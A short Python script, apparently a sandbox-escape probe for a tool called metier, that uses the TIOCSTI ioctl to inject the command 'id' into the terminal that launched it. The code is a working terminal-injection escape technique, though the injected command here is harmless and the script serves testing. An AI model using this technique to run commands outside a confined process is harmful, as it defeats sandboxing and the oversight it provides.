# Types a command into the terminal that started metier (TIOCSTI).
# needs: terminal
from escape import *
import fcntl
for letter in b"id\n":
    fcntl.ioctl(0, 0x5412, bytes([letter]))
print("typed")
